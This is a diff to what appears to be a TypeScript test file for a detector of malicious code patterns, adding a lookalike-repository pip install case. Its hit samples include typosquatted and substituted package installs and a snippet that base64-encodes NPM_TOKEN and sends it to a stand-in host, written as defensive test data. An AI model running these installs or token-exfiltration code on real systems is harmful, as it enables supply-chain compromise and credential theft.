@@ -180,6 +180,10 @@ const TEXT_CASES: Record<string, { hit: string; miss: string; path?: string }> =
     hit: "pip install reqeusts beautifulsoup4",
     miss: "pip install requests scipy scapy pyyaml",
   },
+  "package-substitute": {
+    hit: "pip install git+https://github.com/psf-requests/requests.git@main",
+    miss: "pip install git+https://github.com/huggingface/transformers",
+  },
   "encoded-secret-sent": {
     hit: 'const t = Buffer.from(process.env.NPM_TOKEN).toString("base64");\nconst o = { host: "h.example", headers: { "X-Trace": t } };\nhttps.get(o);',
     miss: 'const auth = Buffer.from("u:" + process.env.JIRA_API_TOKEN).toString("base64");\nfetch(u, { headers: { Authorization: "Basic " + auth } });',
